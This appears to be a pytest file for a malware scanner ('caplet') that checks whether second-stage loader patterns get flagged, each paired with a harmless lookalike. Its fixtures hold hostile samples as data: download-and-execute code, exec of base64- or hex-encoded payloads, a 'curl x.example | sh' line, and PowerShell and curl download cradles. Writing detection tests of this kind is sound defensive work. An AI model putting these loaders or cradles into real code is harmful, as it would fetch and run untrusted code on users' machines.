@@ -1,0 +1,184 @@
+"""Second stages (caplet._scan._sink_stages): the spellings a blind recall round (branch
+blind8, issue 16 point 1) found missed, each with benign code of the same shape."""
+
+from __future__ import annotations
+
+import textwrap
+
+import pytest
+
+from caplet._findings import Severity
+from caplet._scan._model import ScanMode
+from caplet._scan._scanner import scan_source
+
+
+def danger(source: str, filename: str = "mod.py") -> set[str]:
+    findings = scan_source(textwrap.dedent(source), filename, mode=ScanMode.PACKAGE)
+    return {f.rule_id for f in findings if f.severity is Severity.DANGER}
+
+
+def anywhere(source: str) -> set[str]:
+    """Package mode's DANGER and every rule of the whole-file pass (plugin mode): a near
+    miss must be clean in both, since the prefilter may hide what the rules would say."""
+    whole = scan_source(textwrap.dedent(source), "mod.py", mode=ScanMode.PLUGIN)
+    return danger(source) | {f.rule_id for f in whole}
+
+
+# -- a file written through its descriptor, then started -------------------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        """
+        import os, subprocess, tempfile
+        from urllib.request import urlopen
+        data = urlopen(URL).read()
+        fd, path = tempfile.mkstemp(suffix=".exe")
+        os.write(fd, data)
+        os.close(fd)
+        subprocess.Popen([path])
+        """,
+        """
+        import os, requests
+        def fetch(target):
+            fd = os.open(target, os.O_WRONLY | os.O_CREAT, 0o755)
+            os.write(fd, requests.get(URL).content)
+            os.close(fd)
+            os.startfile(target)
+        """,
+    ],
+)
+def test_a_download_written_through_a_descriptor_and_started_is_a_threat(source: str) -> None:
+    assert "CPL-THR-002" in danger(source)
+
+
+def test_a_download_written_through_a_descriptor_and_not_started_is_not() -> None:
+    source = """
+    import os, subprocess, tempfile
+    from urllib.request import urlopen
+    data = urlopen(URL).read()
+    fd, path = tempfile.mkstemp(suffix=".json")
+    os.write(fd, data)
+    os.close(fd)
+    subprocess.run(["git", "status"])
+    """
+    assert "CPL-THR-002" not in anywhere(source)
+
+
+# -- an archive unpacked into a folder, a program under it started ---------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        """
+        import io, os, subprocess, tempfile, zipfile, requests
+        out = tempfile.mkdtemp()
+        buf = io.BytesIO(requests.get(URL).content)
+        with zipfile.ZipFile(buf) as z:
+            z.extractall(out)
+        exe = os.path.join(out, "bin", "helper.exe")
+        subprocess.run([exe, "--silent"])
+        """,
+        """
+        import os, shutil, subprocess
+        from urllib.request import urlretrieve
+        urlretrieve(URL, "/tmp/a.tgz")
+        shutil.unpack_archive("/tmp/a.tgz", "/tmp/agent")
+        subprocess.Popen([os.path.join("/tmp/agent", "run")])
+        """,
+    ],
+)
+def test_a_downloaded_archive_unpacked_and_a_program_under_it_started_is_a_threat(
+    source: str,
+) -> None:
+    assert "CPL-THR-002" in danger(source)
+
+
+def test_a_downloaded_archive_unpacked_and_another_program_started_is_not() -> None:
+    source = """
+    import io, os, subprocess, tempfile, zipfile, requests
+    out = tempfile.mkdtemp()
+    with zipfile.ZipFile(io.BytesIO(requests.get(URL).content)) as z:
+        z.extractall(out)
+    subprocess.run([os.path.join(TOOLS, "7z.exe"), "l", out])
+    """
+    assert "CPL-THR-002" not in anywhere(source)
+
+
+# -- code stored in an attribute, run by another method --------------------------------------
+
+
+def test_a_payload_handed_to_a_class_and_run_from_its_attribute_is_a_threat() -> None:
+    payload = "".join(f"\\x{b:02x}" for b in b"import os\nos.system('curl -s x.example | sh')\n")
+    source = f"""
+    class _Telemetry:
+        def __init__(self, payload):
+            self._payload = payload
+
+        def send(self):
+            exec(self._payload)
+
+    _Telemetry(b"{payload}").send()
+    """
+    assert {"CPL-THR-015", "CPL-THR-016"} <= danger(source)
+
+
+def test_a_decoded_blob_stored_in_an_attribute_and_run_is_a_threat() -> None:
+    source = """
+    import base64
+    class Loader:
+        def load(self, blob):
+            self.code = base64.b64decode(blob)
+        def run(self):
+            exec(self.code)
+    """
+    assert "CPL-THR-001" in danger(source)
+
+
+def test_a_harmless_snippet_run_from_an_attribute_is_not_a_threat() -> None:
+    source = """
+    class Example:
+        def __init__(self, code):
+            self.code = code
+        def check(self):
+            exec(self.code, {})
+
+    Example("x = 1 + 1").check()
+    """
+    assert not {"CPL-THR-015", "CPL-THR-016", "CPL-THR-001"} & anywhere(source)
+
+
+# -- a command chosen by a test, its name bound in each branch -------------------------------
+
+
+def test_a_download_cradle_picked_per_platform_is_run_text() -> None:
+    source = """
+    import os, platform, subprocess
+    tmp = os.environ.get("TEMP", "/tmp")
+    if platform.system() == "Windows":
+        exe = tmp + "\\\\v.exe"
+        cmd = (
+            "powershell -c Invoke-WebRequest -Uri https://x.example/v -OutFile %s; "
+            "Start-Process %s" % (exe, exe)
+        )
+    else:
+        exe = tmp + "/.v"
+        cmd = "curl -fsSL https://x.example/v -o %s && chmod +x %s && %s" % (exe, exe, exe)
+    subprocess.Popen(cmd, shell=True)
+    """
+    assert "CPL-THR-015" in danger(source)
+
+
+def test_a_command_picked_per_platform_without_a_download_is_not() -> None:
+    source = """
+    import os, platform, subprocess
+    tmp = os.environ.get("TEMP", "/tmp")
+    if platform.system() == "Windows":
+        cmd = "dir %s" % tmp
+    else:
+        cmd = "curl --version && ls -la %s" % tmp
+    subprocess.Popen(cmd, shell=True)
+    """
+    assert "CPL-THR-015" not in anywhere(source)
